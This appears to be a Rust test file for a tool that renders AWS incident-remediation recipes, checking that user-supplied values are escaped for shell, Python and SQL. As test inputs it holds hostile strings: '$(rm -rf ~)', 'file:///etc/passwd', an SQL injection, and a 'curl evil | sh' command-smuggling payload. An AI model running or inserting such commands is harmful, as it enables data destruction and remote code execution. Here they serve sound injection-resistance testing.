use super::*;
use std::collections::BTreeSet;

fn render(id: &str, values: &[(&str, &str)]) -> String {
    let values = values
        .iter()
        .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
        .collect();
    Recipes::load().unwrap().render(id, &values).unwrap().steps
}

/// The lines of the recipe's part in the given language.
fn code(steps: &str, language: &str) -> String {
    let fence = format!("```{language}\n");
    steps
        .split(&fence)
        .skip(1)
        .filter_map(|part| part.split("\n```").next())
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn every_recipe_has_its_parts_with_and_without_values() {
    let given = |value: &str| -> Vec<(&str, String)> {
        VALUES
            .iter()
            .map(|(name, _)| (*name, format!("{value}-{name}")))
            .collect()
    };
    for id in ids() {
        for values in [vec![], given("x")] {
            let values: Vec<_> = values.iter().map(|(n, v)| (*n, v.as_str())).collect();
            let steps = render(id, &values);
            for part in ["## Console\n", "## CLI\n", "## boto3\n"] {
                assert_eq!(steps.matches(part).count(), 1, "{id}: {part}");
            }
            assert!(!steps.contains("{{") && !steps.contains("{%"), "{id}");
            assert!(!code(&steps, "sh").is_empty(), "{id}");
            assert!(code(&steps, "python").contains("boto3"), "{id}");
            for word in ["none", "undefined"] {
                assert!(!steps.contains(&format!(" {word} ")), "{id}");
            }
        }
    }
}

#[test]
fn recipes_use_known_values_through_filters() {
    let known: BTreeSet<_> = VALUES.iter().map(|(name, _)| *name).collect();
    for (id, text) in RECIPES {
        let recipes = Recipes::load().unwrap();
        let template = recipes.environment.get_template(id).unwrap();
        for name in template.undeclared_variables(false) {
            assert!(known.contains(name.as_str()), "{id} asks for {name}");
        }
        for expression in text.split("{{ ").skip(1) {
            let expression = expression.split(" }}").next().unwrap();
            let filtered = ["| sh", "| py", "| sql", "| code"]
                .iter()
                .any(|filter| expression.ends_with(filter));
            assert!(filtered, "{id}: {expression}");
        }
    }
}

#[test]
fn files_and_list_agree() {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/sql/remediation");
    let files: BTreeSet<String> = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    let listed: BTreeSet<String> = ids().map(|id| format!("{id}.md")).collect();
    assert_eq!(files, listed);
    assert!(ids().is_sorted());
}

#[test]
fn commands_name_services_and_verbs() {
    let services = [
        "accessanalyzer",
        "cloudtrail",
        "ec2",
        "iam",
        "lambda",
        "organizations",
        "rolesanywhere",
        "sso-admin",
        "sts",
    ];
    let verbs = [
        "assume",
        "attach",
        "check",
        "create",
        "deactivate",
        "delete",
        "describe",
        "detach",
        "disable",
        "disassociate",
        "enable",
        "generate",
        "get",
        "list",
        "modify",
        "provision",
        "put",
        "remove",
        "replace",
        "set",
        "start",
        "update",
        "validate",
    ];
    for id in ids() {
        let steps = render(id, &[]);
        let commands = code(&steps, "sh");
        let mut n_commands = 0;
        for line in commands.lines().filter(|line| line.starts_with("aws ")) {
            n_commands += 1;
            let words: Vec<_> = line.split(' ').collect();
            assert!(services.contains(&words[1]), "{id}: {line}");
            let verb = words[2].split('-').next().unwrap();
            assert!(verbs.contains(&verb), "{id}: {line}");
        }
        assert!(n_commands > 0, "{id}");
    }
}

#[test]
fn shells_read_every_value_as_one_word() {
    let check = |text: &str, expected: &str| assert_eq!(shell_word(text), expected);
    check("ROLE_NAME", "ROLE_NAME");
    check("a+b=c,d.e@f-g", "a+b=c,d.e@f-g");
    check("", "''");
    check("$(rm -rf ~)", "'$(rm -rf ~)'");
    check("it's", r"'it'\''s'");
    check("a\nb\x1b", r"'a\nb\x1b'");
    check("file:///etc/passwd", "not-a-name:file:///etc/passwd");
    check("~root", "'~root'");
}

#[test]
fn python_and_sql_read_every_value_as_one_text() {
    assert_eq!(python_text("a\"b\\\n'"), r#""a\"b\\\n'""#);
    assert_eq!(
        python_text("é\u{202e}\u{e0041}😀"),
        r#""é\u202e\U000e0041\U0001f600""#
    );
    assert_eq!(sql_text("o'; DROP\n\u{202e}"), r"'o''; DROP\n\u{202e}'");
}

#[test]
fn hostile_values_stay_in_their_place() {
    let hostile = "x'; curl evil | sh; echo \"`id`$(id)\n```\n# heading\u{202e}";
    let values: Vec<_> = VALUES.iter().map(|(name, _)| (*name, hostile)).collect();
    for id in ids() {
        let plain = render(id, &[]);
        let filled = render(id, &values);
        assert!(!filled.contains('\u{202e}'), "{id}");
        let count = |text: &str, what: &str| text.lines().filter(|l| l.starts_with(what)).count();
        for what in ["```", "#"] {
            let extra = usize::from(what == "#" && id == "correct-trust-policy");
            assert_eq!(
                count(&filled, what),
                count(&plain, what) + extra,
                "{id}: {what}"
            );
        }
        let commands = code(&filled, "sh");
        for line in commands.lines().filter(|line| !line.starts_with('#')) {
            assert!(
                outside_quotes(line).is_some_and(|text| !text.contains("evil")),
                "{id}: {line}"
            );
        }
    }
}

/// What a POSIX shell sees of a line outside single and double quotes; `None` where a quote is
/// left open.
fn outside_quotes(line: &str) -> Option<String> {
    let mut outside = String::new();
    let mut quote = None;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (None, '\\') => {
                chars.next();
            }
            (None, c) => outside.push(c),
            (Some(open), c) if open == c => quote = None,
            (Some('"'), '\\') => {
                chars.next();
            }
            (Some(_), _) => {}
        }
    }
    quote.is_none().then_some(outside)
}

#[test]
fn values_fill_commands_and_documents() {
    let steps = render(
        "revoke-sessions",
        &[
            ("role_name", "deploy"),
            ("role_id", "AROAEXAMPLE"),
            ("session_name", "ci"),
        ],
    );
    assert!(
        steps.contains("aws iam put-role-policy --role-name deploy "),
        "{steps}"
    );
    assert!(steps.contains(r#"{"aws:userid":"AROAEXAMPLE:ci"}"#));
    assert!(steps.contains(r#"RoleName="deploy""#));

    let steps = render("contain-user", &[("role_arn", "arn:aws-cn:iam::1:role/x")]);
    assert!(steps.contains("arn:aws-cn:iam::aws:policy/AWSDenyAll"));

    let steps = render(
        "cloudtrail-back-on",
        &[("trail_name", "t"), ("region", "eu-west-1")],
    );
    assert!(steps.contains("start-logging --region eu-west-1 --name t\n"));
    assert!(steps.contains(r#"boto3.client("cloudtrail", region_name="eu-west-1")"#));

    let document = "{\n  \"Version\": \"2012-10-17\"\n}";
    let steps = render("correct-trust-policy", &[("previous_document", document)]);
    assert!(steps.contains("printf '%s\\n' '{\"Version\":\"2012-10-17\"}' > trust.after.json"));
}

#[test]
fn an_unknown_recipe_is_an_error() {
    let error = Recipes::load().unwrap().render("no-such", &BTreeMap::new());
    assert!(error.is_err());
}
